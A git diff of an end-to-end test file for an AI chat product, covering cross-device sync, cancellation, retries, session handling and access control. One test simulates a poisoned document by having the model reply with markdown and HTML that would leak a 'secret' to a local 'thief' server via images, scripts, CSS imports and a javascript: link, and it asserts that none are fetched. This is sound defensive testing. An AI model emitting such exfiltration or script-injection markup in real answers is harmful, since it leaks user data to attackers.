@@ -2,9 +2,8 @@ import { once } from 'node:events'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Page } from 'playwright-core'
-import { afterAll, afterEach, beforeAll, beforeEach, expect, inject, test } from 'vitest'
-import { type ChatProxy, startChatProxy } from '../integration/runs/start-chat-proxy.ts'
-import { type Product, startProduct } from './start-product.ts'
+import { expect, test } from 'vitest'
+import { useChatProduct } from './use-chat-product.ts'
 
 const PATIENCE = { timeout: 30_000 }
 const ANSWER = [
@@ -14,22 +13,7 @@ const ANSWER = [
   'Anything else? `Ask.`',
 ].join('\n\n')
 
-let provider: ChatProxy
-let product: Product
-beforeAll(async () => {
-  provider = await startChatProxy()
-  product = await startProduct(inject('webAppDir'), {
-    openai: { apiKey: provider.apiKey, baseUrl: provider.baseUrl },
-    functionLimits: { 'agent-run': { cpu: false, memoryMb: false } },
-  })
-  await product.stack.stack?.warmFunctions(['agent-run'])
-})
-beforeEach(() => provider.reset())
-afterEach(() => product?.closeBrowsers())
-afterAll(async () => {
-  await product?.stop()
-  await provider?.stop()
-})
+const used = useChatProduct()
 
 const conversation = (page: Page) => page.getByRole('list', { name: 'Conversation' })
 const words = (page: Page) => conversation(page).evaluate((list) => list.textContent)
@@ -38,12 +22,12 @@ const composer = (page: Page) => page.getByRole('textbox', { name: /^Message to/
 /** The same person on two devices. */
 async function twoDevices(email: string): Promise<[laptop: Page, phone: Page]> {
   const [laptop, phone] = await Promise.all([
-    product.openApp({ reducedMotion: true }),
-    product.openApp({ reducedMotion: true, phone: true }),
+    used.product.openApp({ reducedMotion: true }),
+    used.product.openApp({ reducedMotion: true, phone: true }),
   ])
-  await product.signIn(laptop, email)
-  await product.signIn(phone, email)
-  await product.stack.sql()`update agents set status = 'published', instructions = 'You are a baker.'`
+  await used.product.signIn(laptop, email)
+  await used.product.signIn(phone, email)
+  await used.product.stack.sql()`update agents set status = 'published', instructions = 'You are a baker.'`
   return [laptop, phone]
 }
 
@@ -65,12 +49,11 @@ async function watch(page: Page): Promise<void> {
     Object.assign(window, { seen })
   })
 }
-const seenBy = (page: Page) =>
-  page.evaluate(() => (window as unknown as { seen: { at: number; text: string }[] }).seen)
+const seenBy = (page: Page) => page.evaluate(() => (window as unknown as { seen: { at: number; text: string }[] }).seen)
 
 test('the phone shows what the laptop does, within the same second, and both the same after a reload', async () => {
-  provider.answer = () => ({ text: ANSWER })
-  provider.faults = () => ({ paceMs: 120 })
+  used.provider.answer = () => ({ text: ANSWER })
+  used.provider.faults = () => ({ paceMs: 120 })
   const [laptop, phone] = await twoDevices('ada@example.com')
   await phone.getByRole('link', { name: 'Chat' }).click()
   await ask(laptop, 'When do you open?')
@@ -79,7 +62,11 @@ test('the phone shows what the laptop does, within the same second, and both the
   await phone.getByRole('link', { name: /When do you open/ }).click(PATIENCE)
   await watch(phone)
   await Promise.all(
-    [laptop, phone].map((page) => conversation(page).getByRole('link', { name: /how this answer/ }).waitFor(PATIENCE)),
+    [laptop, phone].map((page) =>
+      conversation(page)
+        .getByRole('link', { name: /how this answer/ })
+        .waitFor(PATIENCE),
+    ),
   )
   expect(await words(phone)).toBe(await words(laptop))
   expect(await conversation(phone).getByRole('listitem').filter({ hasText: 'Cake' }).count()).toBeGreaterThan(0)
@@ -98,14 +85,16 @@ test('the phone shows what the laptop does, within the same second, and both the
   const before = await words(laptop)
   await Promise.all([laptop.reload(), phone.reload()])
   for (const page of [laptop, phone]) {
-    await conversation(page).getByRole('link', { name: /how this answer/ }).waitFor(PATIENCE)
+    await conversation(page)
+      .getByRole('link', { name: /how this answer/ })
+      .waitFor(PATIENCE)
     expect(await words(page)).toBe(before)
   }
 })
 
 test('an answer is stopped from the other device; a long one by Escape; and the next message goes on', async () => {
-  provider.answer = () => ({ text: 'word '.repeat(400) })
-  provider.faults = () => ({ paceMs: 100 })
+  used.provider.answer = () => ({ text: 'word '.repeat(400) })
+  used.provider.faults = () => ({ paceMs: 100 })
   const [laptop, phone] = await twoDevices('bea@example.com')
   await ask(laptop, 'Count.')
   await conversation(laptop).getByText('word word').waitFor(PATIENCE)
@@ -124,20 +113,20 @@ test('an answer is stopped from the other device; a long one by Escape; and the 
   await composer(laptop).press('Escape')
   await expect.poll(() => conversation(laptop).getByText('stopped').count(), PATIENCE).toBe(2)
   expect(await words(laptop)).toContain('Again.\nPlease.')
-  const runs = await product.stack.sql()`
+  const runs = await used.product.stack.sql()`
     select r.status from ai.runs r join auth.users u on u.id = r.user_id where u.email = 'bea@example.com'`
   expect(runs.map(({ status }) => status)).toEqual(['cancelled', 'cancelled'])
 })
 
 test('a failure is told in words, and the run goes on when it is retried, here or there', async () => {
-  provider.answer = () => ({ text: 'Here it is.' })
-  provider.faults = () => ({ status: 401 })
+  used.provider.answer = () => ({ text: 'Here it is.' })
+  used.provider.faults = () => ({ status: 401 })
   const [laptop, phone] = await twoDevices('cyd@example.com')
   await ask(laptop, 'Are you there?')
   const problem = laptop.getByRole('alert').filter({ hasText: 'The answer did not come' })
   await problem.waitFor(PATIENCE)
   await phone.goto(laptop.url())
-  provider.faults = () => ({})
+  used.provider.faults = () => ({})
   await phone.getByRole('button', { name: 'Try again' }).click(PATIENCE)
   await conversation(phone).getByText('Here it is.').waitFor(PATIENCE)
   await conversation(laptop).getByText('Here it is.').waitFor(PATIENCE)
@@ -153,31 +142,35 @@ test('what a poisoned document makes the agent say is not fetched, and leads now
   }).listen(0, '127.0.0.1')
   await once(thief, 'listening')
   const address = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
-  provider.answer = () => ({
+  used.provider.answer = () => ({
     text: `Done. ![logo](${address}/1?secret=42) <img src="${address}/2"> [![x](${address}/3)](javascript:alert(1))\n\n<script src="${address}/4"></script>\n\n<style>@import url(${address}/5)</style>`,
   })
-  const page = await product.openApp({ reducedMotion: true })
+  const page = await used.product.openApp({ reducedMotion: true })
   const refused: string[] = []
   page.on('console', (message) => /Content Security Policy/.test(message.text()) && refused.push(message.text()))
-  await product.signIn(page, 'dan@example.com')
-  await product.stack.sql()`update agents set status = 'published'`
+  await used.product.signIn(page, 'dan@example.com')
+  await used.product.stack.sql()`update agents set status = 'published'`
   await ask(page, 'Summarize it.')
   await conversation(page).getByText('Image from 127.0.0.1').first().waitFor(PATIENCE)
-  await conversation(page).getByRole('link', { name: /how this answer/ }).waitFor(PATIENCE)
+  await conversation(page)
+    .getByRole('link', { name: /how this answer/ })
+    .waitFor(PATIENCE)
   await page.waitForTimeout(500)
   expect(asked).toEqual([])
   // Nothing had to be refused by the page's policy either: it is the second wall.
   expect(refused).toEqual([])
   expect(await conversation(page).locator('img, script, style, iframe, [src]').count()).toBe(0)
-  const links = await conversation(page).locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href')))
+  const links = await conversation(page)
+    .locator('a')
+    .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
   expect(links.filter((href) => !href?.startsWith('/runs/'))).toEqual([])
   thief.close()
 })
 
 test('sessions are found by title, renamed and deleted, by keyboard alone', async () => {
-  const page = await product.openApp({ reducedMotion: true })
-  await product.signIn(page, 'eve@example.com')
-  await product.stack.sql()`update agents set status = 'published'`
+  const page = await used.product.openApp({ reducedMotion: true })
+  await used.product.signIn(page, 'eve@example.com')
+  await used.product.stack.sql()`update agents set status = 'published'`
   await page.getByRole('link', { name: 'Chat' }).focus()
   await page.keyboard.press('Enter')
   await composer(page).focus()
@@ -200,20 +193,20 @@ test('sessions are found by title, renamed and deleted, by keyboard alone', asyn
   await page.keyboard.press('Enter')
   await page.waitForURL(/\/chat$/)
   await expect.poll(() => page.getByRole('link', { name: /About flour/ }).count()).toBe(0)
-  const [left] = await product.stack.sql()`
+  const [left] = await used.product.stack.sql()`
     select count(*)::int as sessions from chat_sessions s join auth.users u on u.id = s.user_id where u.email = 'eve@example.com'`
   expect(left).toEqual({ sessions: 0 })
 })
 
 test('somebody else sees no such chat', async () => {
-  const page = await product.openApp({ reducedMotion: true })
-  await product.signIn(page, 'fay@example.com')
-  await product.stack.sql()`update agents set status = 'published'`
+  const page = await used.product.openApp({ reducedMotion: true })
+  await used.product.signIn(page, 'fay@example.com')
+  await used.product.stack.sql()`update agents set status = 'published'`
   await ask(page, 'Only for me.')
   await conversation(page).getByText('Hello.').waitFor(PATIENCE)
   const address = page.url()
-  const other = await product.openApp({ reducedMotion: true })
-  await product.signIn(other, 'gil@example.com')
+  const other = await used.product.openApp({ reducedMotion: true })
+  await used.product.signIn(other, 'gil@example.com')
   await other.goto(address)
   await other.getByRole('heading', { name: 'No such chat' }).waitFor(PATIENCE)
 })
